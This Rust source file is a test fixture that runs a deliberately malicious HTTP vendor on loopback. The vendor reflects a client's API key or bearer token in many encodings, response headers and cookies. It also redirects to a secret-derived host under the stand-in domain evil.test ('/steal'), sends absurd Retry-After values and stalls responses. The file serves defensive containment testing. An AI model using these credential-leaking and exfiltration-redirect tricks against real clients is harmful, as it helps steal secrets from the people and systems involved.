//! A malicious "vendor" on loopback for the containment tests: it echoes the credential it is
//! sent in every encoding it can think of, compresses or slices its answers, redirects to host
//! names made of the secret, asks for absurd `Retry-After` pauses, stalls, and runs a token
//! endpoint that counts how often it is asked. Plain HTTP (the stacks allow loopback http).

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use base64::Engine as _;
use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// What the vendor has seen.
#[derive(Default)]
pub struct Seen {
    /// Token requests.
    pub tokens: AtomicU64,
    /// Requests to `/slow` now in progress.
    pub slow_in_flight: AtomicU64,
    /// Requests to `/slow` started.
    pub slow_started: AtomicU64,
    /// Requests to `/always-401`.
    pub refused: AtomicU64,
}

/// A running malicious vendor.
pub struct EvilVendor {
    /// Its address.
    pub addr: SocketAddr,
    /// What it has seen.
    pub seen: Arc<Seen>,
}

impl EvilVendor {
    /// Starts it on a free loopback port.
    pub async fn start() -> EvilVendor {
        let seen = Arc::new(Seen::default());
        let app = Router::new()
            .route("/echo-gzip", get(echo_gzip))
            .route("/echo-br", get(echo_br))
            .route("/echo-range", get(echo_range))
            .route("/echo-encodings", get(echo_encodings))
            .route("/echo-headers", get(echo_headers))
            .route("/redirect-secret", get(redirect_secret))
            .route(
                "/retry-after-max",
                get(retry_after_max).post(retry_after_max),
            )
            .route(
                "/retry-after-date",
                get(retry_after_date).post(retry_after_date),
            )
            .route("/slow", get(slow).post(slow))
            .route("/always-401", get(always_401))
            .route("/oauth/v1/tokens", post(token))
            .with_state(seen.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind the evil vendor");
        let addr = listener.local_addr().expect("addr");
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        EvilVendor { addr, seen }
    }

    /// `http://127.0.0.1:<port>`.
    pub fn base(&self) -> String {
        format!("http://{}", self.addr)
    }
}

/// The credential the host sent (the API key, or the bearer token), as the vendor saw it.
fn credential(headers: &HeaderMap) -> String {
    headers
        .get("x-api-key")
        .or_else(|| headers.get(header::AUTHORIZATION))
        .and_then(|v| v.to_str().ok())
        .map(|v| v.trim_start_matches("Bearer ").to_string())
        .unwrap_or_default()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).expect("gzip");
    encoder.finish().expect("gzip")
}

/// An error page echoing the key, gzip-compressed whether or not it was asked for.
async fn echo_gzip(headers: HeaderMap) -> Response {
    let page = format!(
        "<html><body>invalid api key {}</body></html>",
        credential(&headers)
    );
    ([(header::CONTENT_ENCODING, "gzip")], gzip(page.as_bytes())).into_response()
}

/// An encoding the host never asks for.
async fn echo_br(headers: HeaderMap) -> Response {
    (
        [(header::CONTENT_ENCODING, "br")],
        format!("\u{1b}not brotli {}", credential(&headers)),
    )
        .into_response()
}

/// A slice of the key, as if a range had been asked for.
async fn echo_range(headers: HeaderMap) -> Response {
    let key = credential(&headers);
    let slice: String = key.chars().take(6).collect();
    (
        StatusCode::PARTIAL_CONTENT,
        [(header::CONTENT_RANGE, format!("bytes 0-5/{}", key.len()))],
        slice,
    )
        .into_response()
}

/// The key in every encoding of the red-team report, one per JSON field.
async fn echo_encodings(headers: HeaderMap) -> Response {
    let key = credential(&headers);
    let json_escaped: String = key
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_string()
            } else {
                format!("\\u{:04X}", u32::from(c))
            }
        })
        .collect();
    let all_escaped: String = key
        .chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect();
    let lower_percent: String = key.bytes().map(|b| format!("%{b:02x}")).collect();
    let html: String = key
        .chars()
        .map(|c| format!("&#{};", u32::from(c)))
        .collect();
    let html_hex: String = key
        .chars()
        .map(|c| format!("&#x{:x};", u32::from(c)))
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD;
    let (first, second) = key.split_at(key.len() / 2);
    let body = format!(
        r#"{{"escaped":"{json_escaped}","allEscaped":"{all_escaped}","percent":"{lower_percent}","html":"{html}","htmlHex":"{html_hex}","base64":"{}","basic":"{}","hex":"{}","HEX":"{}","upper":"{}","lower":"{}","part1":"{first}","part2":"{second}"}}"#,
        b64.encode(&key),
        b64.encode(format!("client:{key}")),
        hex::encode(&key),
        hex::encode_upper(&key),
        key.to_uppercase(),
        key.to_lowercase(),
    );
    ([(header::CONTENT_TYPE, "application/json")], body).into_response()
}

/// The key in response headers.
async fn echo_headers(headers: HeaderMap) -> Response {
    let key = credential(&headers);
    let mut response = "ok".into_response();
    let h = response.headers_mut();
    if let Ok(v) = HeaderValue::from_str(&key.to_lowercase()) {
        h.insert("x-echo", v);
    }
    if let Ok(v) = HeaderValue::from_str(&format!(
        "session={}",
        base64::engine::general_purpose::STANDARD.encode(&key)
    )) {
        h.insert(header::SET_COOKIE, v);
    }
    response
}

/// A redirect to a host name made of the key (host names are case-folded on the way).
async fn redirect_secret(headers: HeaderMap) -> Response {
    let key: String = credential(&headers)
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    (
        StatusCode::FOUND,
        [(header::LOCATION, format!("http://{key}.evil.test/steal"))],
    )
        .into_response()
}

async fn retry_after_max() -> Response {
    (
        StatusCode::TOO_MANY_REQUESTS,
        [(header::RETRY_AFTER, "18446744073709551615")],
        "slow down",
    )
        .into_response()
}

async fn retry_after_date() -> Response {
    (
        StatusCode::TOO_MANY_REQUESTS,
        [(header::RETRY_AFTER, "Fri, 31 Dec 9999 23:59:59 GMT")],
        "slow down",
    )
        .into_response()
}

/// Answers after 1.5 s, counting the requests in progress.
async fn slow(State(seen): State<Arc<Seen>>) -> Response {
    seen.slow_started.fetch_add(1, Ordering::SeqCst);
    seen.slow_in_flight.fetch_add(1, Ordering::SeqCst);
    tokio::time::sleep(Duration::from_millis(1500)).await;
    seen.slow_in_flight.fetch_sub(1, Ordering::SeqCst);
    "finally".into_response()
}

async fn always_401(State(seen): State<Arc<Seen>>) -> Response {
    seen.refused.fetch_add(1, Ordering::SeqCst);
    (StatusCode::UNAUTHORIZED, "not for you").into_response()
}

/// A token endpoint that issues a fresh token to anyone and counts.
async fn token(State(seen): State<Arc<Seen>>, _body: Bytes) -> Response {
    let n = seen.tokens.fetch_add(1, Ordering::SeqCst) + 1;
    (
        [(header::CONTENT_TYPE, "application/json")],
        format!(
            r#"{{"access_token":"evil-token-{n}-{:032x}","expires_in":3600}}"#,
            super::random_u128()
        ),
    )
        .into_response()
}
